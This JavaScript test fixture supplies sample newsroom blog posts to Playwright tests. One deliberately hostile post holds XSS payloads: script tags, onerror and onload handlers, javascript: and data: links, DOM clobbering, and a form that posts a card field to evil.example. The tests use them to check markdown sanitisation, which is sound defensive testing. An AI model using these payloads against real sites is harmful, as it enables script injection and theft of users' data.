/**
 * The 30 sample posts the stand-in functions host serves, in the host's order (newest
 * first). CommonJS so the stand-in, Playwright specs and plain scripts can share it.
 * Three posts matter to the tests by name: one with every optional part, one with none,
 * and one whose markdown is hostile.
 */
/**
 * A post as the functions host answers it.
 * @typedef {{
 *   id: number;
 *   slug: string;
 *   metaTitle: string;
 *   metaDescription: string;
 *   date: string;
 *   shortTailKeywords: string;
 *   longTailKeywords: string;
 *   pinterestImageLink: string | null;
 *   youtubeShortsUrl: string | null;
 *   blog: string;
 *   logo: string | null;
 * }} SamplePost
 */

const BLOG_KEY = "e2e-public-anon-key";
const BLOG_PAGE_SIZE = 12;
const DAY = 86_400_000;
const NEWEST = Date.UTC(2026, 9, 30, 15, 0, 0);

const COMPLETE_SLUG = "inside-the-riverbend-print-shop";
const PLAIN_SLUG = "a-short-note-from-the-desk";
const HOSTILE_SLUG = "reader-submitted-markup-test";

const TOPICS = [
  "Council",
  "Schools",
  "Parks",
  "Library",
  "Harvest",
  "Rowing",
  "Transit",
  "Weather",
  "Museum",
  "Hospital",
  "Bakery",
  "Bridge",
  "Festival",
  "Volunteers",
  "Elections",
  "Farmers",
  "Theatre",
  "Archives",
  "Trails",
  "Choir",
  "Orchard",
  "Ferry",
  "Radio",
  "Mill",
  "Market",
  "Clinic",
  "Stadium",
];

const completeBody = (
  /** @type {string} */ origin,
) => `The presses in the basement of our Calloway Street office still run three nights a week.

## What the shop prints

| Job | Nights | Copies |
|---|---|---|
| Weekend edition | Friday | 12,400 |
| Shopper insert | Tuesday | 8,100 |

![The press hall at night](${origin}/images/press-1.svg)

<figure><img src="${origin}/images/press-2.svg" alt="Plates drying on the rack" width="640" height="360"><figcaption>Plates drying on the rack.</figcaption></figure>

Read the [press association's history](https://example.org/press-history) for more.`;

const HOSTILE_BODY = `Reader submissions arrive with **bold text that must survive** and _emphasis too_.

<script>window.__xss = "script tag";</script>

<img src="/missing.png" alt="broken" onerror="window.__xss = 'img onerror'">

[a markdown javascript link](javascript:void(window.__xss='markdown-link'))

<p id="__next_f">An element that tries to clobber the page's globals.</p>

<a href="javascript:window.__xss='html link'">an html javascript link</a> and <a href="JaVaScRiPt:window.__xss='mixed case'">a mixed-case one</a>

<iframe src="javascript:parent.__xss='iframe'" title="bad frame"></iframe>

<svg onload="window.__xss='svg onload'"><circle r="4"></circle></svg>

<form action="https://evil.example/collect" method="post"><input name="card" aria-label="card"><button>Send</button></form>

<p style="position:fixed;inset:0;background:red" onmouseover="window.__xss='mouseover'">A styled paragraph whose text stays.</p>

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a data link</a>

| Column | Value |
|---|---|
| table | still renders |

- a list item that survives
`;

/**
 * Posts the host serves by slug but does not list. The app prefetches every listed post a
 * reader scrolls past, so tests that need a post the app has never read use these.
 */
const UNLISTED_SLUGS = [
  "unlisted-host-down-desktop",
  "unlisted-host-down-phone",
  "unlisted-malformed-desktop",
  "unlisted-malformed-phone",
];

/** @returns {SamplePost[]} */
function unlistedPosts() {
  return UNLISTED_SLUGS.map((slug, index) => ({
    id: 900 + index,
    slug,
    metaTitle: `Unlisted Post ${index + 1}`,
    metaDescription: "A post reachable only by its address.",
    date: new Date(NEWEST - 40 * DAY).toISOString(),
    shortTailKeywords: "",
    longTailKeywords: "",
    pinterestImageLink: null,
    youtubeShortsUrl: null,
    blog: "Only reachable by its address.",
    logo: null,
  }));
}

/** @param {string} origin @returns {SamplePost[]} */
function blogPosts(origin) {
  /** @type {Omit<SamplePost, "date">[]} */
  const posts = TOPICS.map((topic, index) => ({
    id: index + 100,
    slug: `${topic.toLowerCase()}-notebook-${index + 1}`,
    metaTitle: `${topic} Notebook, Part ${index + 1}`,
    metaDescription: `Sample post ${index + 1}: notes from the ${topic.toLowerCase()} beat, written for the test host.`,
    shortTailKeywords: `${topic.toLowerCase()}, riverbend`,
    longTailKeywords: `${topic.toLowerCase()} news in riverbend`,
    pinterestImageLink: null,
    youtubeShortsUrl: null,
    blog: `Notes from the ${topic.toLowerCase()} beat.\n\nA second paragraph of sample text.`,
    logo: index % 3 === 0 ? `${origin}/images/logo-${index + 1}.svg` : null,
  }));
  posts.splice(0, 0, {
    id: 1,
    slug: COMPLETE_SLUG,
    metaTitle: "Inside the Riverbend Print Shop",
    metaDescription:
      "Three nights a week the presses still run under our office. A tour of the shop.",
    shortTailKeywords: "printing, presses, newsroom",
    longTailKeywords: "how a local newspaper is printed, riverbend print shop tour",
    pinterestImageLink: `${origin}/images/pin-1.svg`,
    youtubeShortsUrl: "https://www.youtube.com/shorts/Kd4_vR8eYpM",
    blog: completeBody(origin),
    logo: `${origin}/images/logo-0.svg`,
  });
  posts.splice(2, 0, {
    id: 2,
    slug: HOSTILE_SLUG,
    metaTitle: "Reader-Submitted Markup Test",
    metaDescription: "A post whose body carries everything a sanitiser must remove.",
    shortTailKeywords: "markup",
    longTailKeywords: "sanitising reader submissions",
    pinterestImageLink: null,
    youtubeShortsUrl: null,
    blog: HOSTILE_BODY,
    logo: null,
  });
  posts.splice(13, 0, {
    id: 3,
    slug: PLAIN_SLUG,
    metaTitle: "A Short Note from the Desk",
    metaDescription: "No pictures, no video, no keywords: just words.",
    shortTailKeywords: "",
    longTailKeywords: "",
    pinterestImageLink: null,
    youtubeShortsUrl: null,
    blog: "Just a short note, with nothing optional attached.",
    logo: null,
  });
  return posts.map((post, index) => ({
    ...post,
    date: new Date(NEWEST - index * DAY).toISOString(),
  }));
}

/**
 * A network's other publications (PUBLICATIONS_FILE in e2e/network.spec.ts and the demo): the
 * host answers each by its `domain` (the first label names the town) with posts of its own,
 * which no other domain lists or reads. Any other domain gets the 30 posts above.
 */
/** @type {Record<string, string>} */
const NETWORK_TOWNS = { lakeside: "Lakeside", hillcountry: "Hill Country" };

/** @param {string | null | undefined} domain */
function townOfDomain(domain) {
  const label = /** @type {string} first of at least one */ (String(domain ?? "").split(".")[0]);
  return NETWORK_TOWNS[label] ?? null;
}

/** @param {string} town @returns {SamplePost[]} */
function townPosts(town) {
  const slug = town.toLowerCase().replace(/\s+/g, "-");
  return [
    "Harbour Days Return",
    "The Council Votes on the New Library",
    "Notes from the Night Desk",
  ].map((title, index) => ({
    id: 500 + index,
    slug: `${slug}-${title
      .toLowerCase()
      .replace(/[^a-z]+/g, "-")
      .replace(/-$/, "")}`,
    metaTitle: `${town}: ${title}`,
    metaDescription: `A post of the ${town} newsroom, and of no other publication.`,
    date: new Date(NEWEST - index * DAY).toISOString(),
    shortTailKeywords: `${slug}, local`,
    longTailKeywords: `news in ${town.toLowerCase()}`,
    pinterestImageLink: null,
    youtubeShortsUrl: null,
    blog: `Written in ${town}, for ${town}.\n\nA second paragraph of sample text.`,
    logo: null,
  }));
}

/**
 * The posts the host lists for a domain.
 * @param {string | null | undefined} domain @param {string} origin
 */
function postsForDomain(domain, origin) {
  const town = townOfDomain(domain);
  return town ? townPosts(town) : blogPosts(origin);
}

module.exports = {
  NETWORK_TOWNS,
  postsForDomain,
  BLOG_KEY,
  BLOG_PAGE_SIZE,
  COMPLETE_SLUG,
  PLAIN_SLUG,
  HOSTILE_SLUG,
  UNLISTED_SLUGS,
  blogPosts,
  unlistedPosts,
};
